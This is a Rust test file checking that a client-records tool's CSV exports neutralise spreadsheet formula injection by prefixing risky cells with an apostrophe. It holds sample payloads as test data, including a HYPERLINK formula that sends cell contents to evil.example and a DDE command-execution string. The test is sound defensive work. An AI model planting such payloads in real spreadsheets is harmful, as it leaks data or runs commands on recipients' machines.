//! The CSV exports opened in a spreadsheet run nothing: a name, note, tag or
//! summary that starts like a formula is written with a `'` in front (OWASP's
//! advice against CSV injection), while phone numbers keep their `+`.

#[path = "../../tests/common/mod.rs"]
mod common;

use std::collections::HashMap;

use common::{add, ok};

const MON_10: &str = "2026-03-02T10:00:00+01:00";

/// The CSV's rows as column → cell maps, read as a spreadsheet reads them.
fn rows(csv: &str) -> Vec<HashMap<String, String>> {
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    reader.records().map(|r| header.iter().cloned().zip(r.unwrap().iter().map(String::from)).collect()).collect()
}

#[test]
fn cells_that_would_run_as_formulas_are_written_inert_and_phones_keep_their_plus() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("trato.db");
    let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    let client = add(
        &db,
        MON_10,
        &[
            "client",
            "add",
            name,
            "--org",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "--phone",
            "+34 600 123 456",
            // `=` keeps the argument parser from reading the value as a flag.
            "--notes=-5 kg of flour",
            "--tag",
            "+vip",
            "--availability",
            "Mornings",
        ],
    );
    add(&db, MON_10, &["note", "add", &client, "=1+1"]);

    let clients = rows(&ok(&db, MON_10, &["export", "csv", "clients"]));
    let c = &clients[0];
    assert_eq!(c["name"], format!("'{name}"));
    assert_eq!(c["organisation"], "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(c["notes"], "'-5 kg of flour", "a leading minus is a formula too");
    assert_eq!(c["tags"], "'+vip");
    assert_eq!(c["phone"], "+34 600 123 456", "a phone number keeps its + and can run nothing");
    assert_eq!(c["availability"], "Mornings", "ordinary text is left as written");

    let entries = rows(&ok(&db, MON_10, &["export", "csv", "entries"]));
    assert_eq!(entries[0]["summary"], "'=1+1");
    assert_eq!(entries[0]["client"], format!("'{name}"));
    assert_eq!(entries[0]["occurred_at"], "2026-03-02T10:00:00+01:00", "moments are written as they were");
}
